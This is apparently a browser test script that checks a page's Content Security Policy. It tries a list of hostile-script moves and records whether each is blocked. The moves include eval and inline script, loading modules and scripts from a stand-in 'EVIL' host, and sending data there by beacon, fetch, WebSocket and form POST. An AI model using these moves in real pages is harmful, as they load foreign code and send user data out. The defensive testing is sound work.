// Runs in the page, loaded by the page itself from the program's own address: what a script there would try if it
// were hostile. Each attempt says what became of it; `blocked` is what it must be.
const EVIL = 'https://www.example.com';

/** Blocked by a throw, or by an event that says so; anything else got through. */
const attempts = {
  eval: () => eval('"got through"'),
  'new Function': () => new Function('return "got through"')(),
  'text as a timer': () =>
    new Promise((resolve) => {
      setTimeout('Reflect.set(window, "timerRan", true)');
      setTimeout(() => resolve(Reflect.get(window, 'timerRan') ? 'got through' : 'blocked'), 50);
    }),
  innerHTML: () => {
    document.createElement('div').innerHTML = '<b>x</b>';
    return 'got through';
  },
  'inline script': () => {
    const script = document.createElement('script');
    script.text = 'Reflect.set(window, "inlineRan", true)';
    document.body.append(script);
    return Reflect.get(window, 'inlineRan') ? 'got through' : 'blocked';
  },
  'handler in an attribute': () => {
    const button = document.createElement('button');
    button.setAttribute('onclick', 'Reflect.set(window, "handlerRan", true)');
    button.click();
    return Reflect.get(window, 'handlerRan') ? 'got through' : 'blocked';
  },
  'script from elsewhere': () => load('script', { src: `${EVIL}/x.js` }),
  'module from elsewhere': () => import(`${EVIL}/x.mjs`).then(() => 'got through'),
  'module from data': () => import('data:text/javascript,export default 1').then(() => 'got through'),
  worker: () => load(new Worker('/assets/page-attempts.js')),
  'worker from a blob': () => load(new Worker(URL.createObjectURL(new Blob(['1'])))),
  'trusted types policy': () => {
    trustedTypes.createPolicy('mine', { createHTML: (text) => text });
    return 'got through';
  },
  'image from elsewhere': () => load('img', { src: `${EVIL}/x.png` }),
  'style from elsewhere': () => load('link', { rel: 'stylesheet', href: `${EVIL}/x.css` }),
  'font from elsewhere': () => new FontFace('x', `url(${EVIL}/x.woff2)`).load().then(() => 'got through'),
  'sound from elsewhere': () => load('audio', { src: `${EVIL}/x.mp3` }),
  'style element': () => {
    const style = document.createElement('style');
    style.textContent = ':root { --got-through: 1 }';
    document.head.append(style);
    const value = getComputedStyle(document.documentElement).getPropertyValue('--got-through');
    return value === '' ? 'blocked' : 'got through';
  },
  'style as text': () => {
    const box = document.createElement('div');
    box.setAttribute('style', 'position: fixed');
    document.body.append(box);
    return getComputedStyle(box).position === 'fixed' ? 'got through' : 'blocked';
  },
  'fetch from elsewhere': () => fetch(`${EVIL}/x`).then(() => 'got through'),
  'fetch of an own file': () => fetch('/index.html').then(() => 'got through'),
  'request from elsewhere': () =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${EVIL}/x`);
      request.onload = () => resolve('got through');
      request.onerror = () => resolve('blocked');
      request.send();
    }),
  beacon: () => violationOf(() => navigator.sendBeacon(`${EVIL}/x`, '1')),
  socket: () => load(new WebSocket('wss://www.example.com/')),
  'event source': () => load(new EventSource(`${EVIL}/x`)),
  form: () =>
    violationOf(() => {
      const form = document.createElement('form');
      form.action = `${EVIL}/x`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
    }),
  frame: () => violationOf(() => add('iframe', { src: `${EVIL}/` })),
  'frame of an own page': () => violationOf(() => add('iframe', { src: '/index.html' })),
  'frame of a text': () => {
    add('iframe', {}).srcdoc = '<p>x</p>';
    return 'got through';
  },
  object: () => violationOf(() => add('object', { data: `${EVIL}/x` })),
  embed: () => violationOf(() => add('embed', { src: `${EVIL}/x` })),
  base: () => {
    const base = document.createElement('base');
    base.href = `${EVIL}/`;
    document.head.append(base);
    const moved = document.baseURI.startsWith(EVIL);
    base.remove();
    return moved ? 'got through' : 'blocked';
  },
};

function add(name, members) {
  const element = document.createElement(name);
  Object.assign(element, members);
  document.body.append(element);
  return element;
}

/** Resolves when the thing has loaded (that is bad) or failed. */
function load(target, members) {
  const element = typeof target === 'string' ? document.createElement(target) : target;
  return new Promise((resolve) => {
    for (const good of ['load', 'open', 'message', 'canplay']) {
      element.addEventListener(good, () => resolve('got through'));
    }
    element.addEventListener('error', () => resolve('blocked'));
    if (typeof target === 'string') {
      Object.assign(element, members);
      document.body.append(element);
    }
  });
}

/** For what fails without telling its element: the policy's own event must come. */
function violationOf(act) {
  return new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', () => resolve('blocked'), { once: true });
    act();
    setTimeout(() => resolve('got through'), 2000);
  });
}

const results = {};
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    results[name] = String(await attempt());
  } catch {
    results[name] = 'blocked';
  }
}
Reflect.set(window, 'attemptResults', results);
